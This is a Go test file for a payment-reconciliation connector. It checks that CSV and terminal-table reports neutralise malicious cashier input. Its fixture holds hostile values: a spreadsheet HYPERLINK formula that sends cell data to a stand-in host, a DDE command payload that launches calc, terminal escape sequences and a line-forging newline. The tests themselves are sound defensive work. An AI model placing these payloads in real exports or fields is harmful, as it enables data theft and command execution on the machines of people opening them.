package reconcile_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/compago-odoo/connector/connector/journal"
	"github.com/compago-odoo/connector/connector/reconcile"
)

// hostile is what a cashier can type into x_compago_terminal (or an order
// name): a spreadsheet formula, terminal escape sequences (clear the
// screen, retitle the window) and a newline that forges a line.
const hostile = "=HYPERLINK(\"http://evil.invalid/?x=\"&A1,\"ok\")\x1b[2J\x1b]0;pwned\a\nFAKE  LINE  recorded"

func hostileReport() *reconcile.Report {
	rep := sampleReport()
	rep.Rows[0].Terminal = hostile
	rep.Rows[0].Order = "+cmd|' /C calc'!A0"
	rep.Rows[1].ExternalID = "@SUM(1+1)"
	rep.Rows[1].Flag = "\t-2+3"
	rep.Discrepancies[1].Detail = "-1+1 " + hostile
	return rep
}

// The back office opens the CSV in a spreadsheet: no cell may start with
// = + - @ tab or CR (a formula), except a plain number such as a refund's
// -80.00.
func TestCSVNeutralisesFormulasInEveryCell(t *testing.T) {
	check := func(where string, data []byte) {
		t.Helper()
		recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", where, err)
		}
		for _, rec := range recs {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isNumber(cell) {
					t.Errorf("%s: cell %q would run as a formula", where, cell)
				}
				if strings.ContainsAny(cell, "\x1b\a") {
					t.Errorf("%s: cell %q carries control characters", where, cell)
				}
			}
		}
	}
	var b bytes.Buffer
	if err := reconcile.Write(&b, hostileReport(), "csv"); err != nil {
		t.Fatal(err)
	}
	check("reconcile --format csv", b.Bytes())

	// The daily report goes through the same writer; shown here on a real
	// report whose order name a cashier chose.
	w := newWorld(t)
	order := w.NewOrder(10, map[string]any{"name": "=1+1"})
	if _, err := w.writer().Begin(context.Background(), journal.NewAttempt{OrderID: order, Amount: 1000, Terminal: "-2+3", ExternalIDPrefix: "sandbox"}); err != nil {
		t.Fatal(err)
	}
	j, err := journal.OpenSQLiteReadOnly(context.Background(), w.JournalPath, journal.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer j.Close()
	r, err := reconcile.New(reconcile.Config{PaymentMethod: "Compago"}, j, w.OdooClient(), nil)
	if err != nil {
		t.Fatal(err)
	}
	path, err := reconcile.WriteDaily(context.Background(), r, t.TempDir(), time.Now().Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Clean(path))
	if err != nil {
		t.Fatal(err)
	}
	check("daily CSV", data)
}

func isNumber(s string) bool {
	s = strings.TrimPrefix(s, "-")
	if s == "" {
		return false
	}
	for _, c := range s {
		if (c < '0' || c > '9') && c != '.' && c != ',' {
			return false
		}
	}
	return true
}

// The table is read on the admin's terminal: control characters are shown
// escaped, never run, and cannot forge a line.
func TestTableEscapesControlCharacters(t *testing.T) {
	var b bytes.Buffer
	if err := reconcile.Write(&b, hostileReport(), "table"); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if strings.ContainsAny(out, "\x1b\a\r") || strings.Contains(out, "\nFAKE") {
		t.Fatalf("the table passes control characters through:\n%q", out)
	}
	if !strings.Contains(out, `\x1b[2J`) {
		t.Errorf("the table does not show the escape sequence escaped:\n%s", out)
	}
}
